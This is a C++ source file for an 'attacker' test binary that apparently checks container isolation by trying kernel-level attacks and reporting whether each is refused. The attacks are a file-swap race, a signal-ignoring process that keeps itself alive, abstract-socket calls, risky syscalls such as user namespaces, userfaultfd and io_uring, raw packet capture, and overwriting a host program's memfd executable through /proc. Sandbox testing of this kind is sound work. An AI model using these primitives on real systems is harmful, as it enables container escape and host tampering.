// Attacks that a shell cannot make: attacker WHAT [ARGUMENTS…], static, so that it runs in any
// image. Each prints "got NAME" when the kernel let it, and "refused NAME: why" otherwise.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

namespace {

int say(const char* name, long result) {
  if (result < 0)
    printf("refused %s: %s\n", name, strerror(errno));
  else
    printf("got %s\n", name);
  return result < 0 ? 1 : 0;
}

/// Two names change places for so long, without a pause: what one look finds, the next does not.
int swap(const char* one, const char* other, const char* seconds) {
  constexpr unsigned kExchange = 2;
  const time_t end = time(nullptr) + atoi(seconds);
  while (time(nullptr) < end)
    for (int i = 0; i < 1000; ++i)
      if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, kExchange) != 0)
        return say("swap", -1);
  return say("swap", 0);
}

/// Lives on as long as it can; `mark` is how it is found.
int be_deaf(const char*) {
  prctl(PR_SET_PDEATHSIG, 0);
  for (int each = 1; each < 32; ++each) signal(each, SIG_IGN);
  for (;;) pause();
}

/// Connects to a service of the machine, which asks the kernel for the caller.
int call_service(const char* name) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  const size_t length = strlen(name);
  memcpy(address.sun_path + 1, name, length);
  const int made = socket(AF_UNIX, SOCK_STREAM, 0);
  return say("service", connect(made, reinterpret_cast<sockaddr*>(&address),
                                socklen_t(offsetof(sockaddr_un, sun_path) + 1 + length)));
}

/// System calls that are doors of the kernel, and that no container needs.
int call_doors() {
  syscall(SYS_getpid);
  const long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) _exit(0);
  say("user-namespace", child);
  say("unshare", syscall(SYS_unshare, CLONE_NEWUSER));
  say("keyring", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0, 0, 0));
  say("add-key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
  say("userfault", syscall(SYS_userfaultfd, 1 /* of user mode alone */));
  say("uring", syscall(SYS_io_uring_setup, 0, nullptr) < 0 && errno == EFAULT ? 0 : -1);
  say("hypervisor", socket(AF_VSOCK, SOCK_STREAM, 0));
  return 0;
}

/// Writes into a program that a process runs; as long as one does, the kernel lets none.
int overwrite(int pid, int found) {
  char path[64];
  kill(pid, SIGSTOP);
  snprintf(path, sizeof path, "/proc/self/fd/%d", found);
  const int kept = open(path, O_RDONLY);
  kill(pid, SIGKILL);
  snprintf(path, sizeof path, "/proc/self/fd/%d", kept);
  for (int tries = 0; tries < 1000; ++tries, usleep(1000)) {
    const int program = open(path, O_RDWR);
    if (program < 0 && errno == ETXTBSY) continue;
    const char byte = 0x7f;  // what stands there
    return say("program", program < 0 ? -1 : pwrite(program, &byte, 1, 0));
  }
  return say("program", -1);
}

/// Waits for a process that is a program of the node's, in memory, as the next ones may be.
int overwrite_programs(const char* seconds) {
  constexpr int kNext = 64;
  const time_t end = time(nullptr) + atoi(seconds);
  const int first = getpid() + 1;
  while (time(nullptr) < end)
    for (int pid = first; pid < first + kNext; ++pid) {
      char path[64], target[64] = {};
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      const int found = open(path, O_PATH);
      if (found < 0) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", found);
      const bool is =
          readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "/memfd:", 7) == 0;
      if (is) return overwrite(pid, found);
      close(found);
    }
  puts("none seen");
  return 1;
}

}  // namespace

int main(int count, char** words) {
  setvbuf(stdout, nullptr, _IOLBF, 0);
  const char* what = count > 1 ? words[1] : "";
  if (strcmp(what, "swap") == 0 && count == 5) return swap(words[2], words[3], words[4]);
  if (strcmp(what, "call") == 0 && count == 3) return call_service(words[2]);
  if (strcmp(what, "listen") == 0) return say("packets", socket(AF_PACKET, SOCK_RAW, htons(3)));
  if (strcmp(what, "doors") == 0) return call_doors();
  if (strcmp(what, "overwrite") == 0 && count == 3) return overwrite_programs(words[2]);
  if (strcmp(what, "deaf") == 0 && count == 3) return be_deaf(words[2]);
  fprintf(stderr, "attacker: no such attack: %s\n", what);
  return 2;
}
